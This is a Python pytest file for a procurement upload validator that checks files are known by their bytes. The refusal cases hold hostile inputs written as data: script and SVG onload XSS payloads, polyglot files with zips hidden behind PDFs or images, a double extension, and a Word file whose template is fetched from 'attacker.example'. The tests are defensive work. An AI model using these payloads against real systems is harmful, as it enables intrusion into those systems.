"""Files that are kept and never read: the bytes decide what they are, whatever the name says."""

import pytest

from procurement.incoming import Code, Limits, Refused
from procurement.incoming.kept import KEPT, refuse_unfit
from tests.procurement.incoming.packages import docx, ods, ods_row, odt, word_with, xlsx

PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 40 + b"IEND\xaeB`\x82"
JPG = b"\xff\xd8\xff\xe0" + b"\0" * 40 + b"\xff\xd9"
GOOD = {
    "a.pdf": (PDF, "pdf"),
    "a.PDF": (PDF, "pdf"),
    "a.png": (PNG, "png"),
    "a.jpg": (JPG, "jpg"),
    "a.jpeg": (JPG, "jpg"),
    "a.docx": (docx(), "docx"),
    "a.xlsx": (xlsx(), "xlsx"),
    "a.odt": (odt(""), "odt"),
    "a.ods": (ods(ods_row()), "ods"),
    "a.csv": (b"naam;waarde\nlaptop;3\n", "csv"),
}
WRONG = {
    "nothing": ("a.pdf", b"", Code.EMPTY),
    "page as PDF": ("a.pdf", b"<html><script>alert(1)</script></html>", Code.WRONG_TYPE),
    "page before a PDF": ("a.pdf", b"<html>" + PDF, Code.WRONG_TYPE),
    "cut PDF": ("a.pdf", PDF[:20], Code.WRONG_TYPE),
    "zip behind a PDF": ("a.pdf", PDF + docx(), Code.HIDDEN_DATA),
    "zip that ends as a PDF": ("a.pdf", b"%PDF-" + docx() + b"%%EOF", Code.HIDDEN_DATA),
    "zip behind a picture": ("a.png", PNG + xlsx() + PNG, Code.HIDDEN_DATA),
    "picture under another name": ("a.png", JPG, Code.WRONG_TYPE),
    "page as picture": ("a.jpg", b"<svg onload=alert(1)>", Code.WRONG_TYPE),
    "cut picture": ("a.png", PNG[:-12], Code.WRONG_TYPE),
    "PDF as Word": ("a.docx", PDF, Code.WRONG_TYPE),
    "Word as PDF": ("a.pdf", docx(), Code.WRONG_TYPE),
    "a page": ("a.html", b"<html></html>", Code.UNKNOWN_TYPE),
    "a drawing": ("a.svg", b"<svg/>", Code.UNKNOWN_TYPE),
    "a program": ("a.exe", b"MZ", Code.UNKNOWN_TYPE),
    "a template": ("a.dotx", docx(), Code.UNKNOWN_TYPE),
    "with macros": ("a.docm", docx(), Code.MACROS),
    "two endings": ("a.pdf.exe", PDF, Code.UNKNOWN_TYPE),
    "no ending": ("pdf", PDF, Code.UNKNOWN_TYPE),
    "template from outside": (
        "a.docx",
        word_with("attachedTemplate", "http://attacker.example/x", external=True),
        Code.OUTSIDE_SOURCE,
    ),
}


@pytest.mark.parametrize(("name", "made"), GOOD.items(), ids=GOOD)
def test_what_may_be_kept_is_known_by_its_bytes(name: str, made: tuple[bytes, str]) -> None:
    content, kind = made

    assert refuse_unfit(content, name) == kind
    assert kind in KEPT


@pytest.mark.parametrize(("name", "content", "code"), WRONG.values(), ids=WRONG)
def test_anything_else_is_refused_for_what_it_is(name: str, content: bytes, code: Code) -> None:
    with pytest.raises(Refused) as refused:
        refuse_unfit(content, name)

    assert refused.value.refusal.code == code


@pytest.mark.parametrize("name", ["a.pdf", "a.csv", "a.docx"])
def test_a_byte_too_many_is_refused(name: str) -> None:
    content = PDF + b" " * 100 + b"%%EOF"

    with pytest.raises(Refused) as refused:
        refuse_unfit(content, name, Limits(file_bytes=len(content) - 1))

    assert refused.value.refusal.code == Code.FILE_TOO_LARGE


def test_each_kind_is_tried() -> None:
    assert {kind for _, kind in GOOD.values()} == set(KEPT)
